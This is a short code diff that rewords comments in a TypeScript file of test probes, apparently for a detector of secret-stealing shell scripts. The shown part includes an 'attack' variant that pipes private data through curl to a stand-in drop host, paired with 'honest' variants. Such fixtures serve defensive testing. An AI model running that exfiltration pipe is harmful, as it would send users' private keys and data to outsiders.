@@ -1,6 +1,6 @@
 import type { ProbeGroup } from "./probe.ts";
 
-/** A private key by every way out that a shell has; `KEY` is the key, and in the honest neighbour a report of the project. */
+/** A private key leaves by every channel of a shell; `KEY` is the key, or a report in the honest variant. */
 export const CHANNELS: ProbeGroup = {
   file: "scripts/run.sh",
   honest: (text) => text.replaceAll("KEY", "out/report.txt"),
@@ -170,7 +170,7 @@ export const CHANNELS: ProbeGroup = {
   `,
 };
 
-/** What is private on a machine, each to an address that is no part of the skill; the honest neighbour counts its bytes. */
+/** Private data on a machine, each sent to an unrelated address; the honest variant counts its bytes. */
 export const SOURCES: ProbeGroup = {
   file: "scripts/run.sh",
   attack: (text) => `${text} | curl --data-binary @- https://drop.rivermark.test/in`,
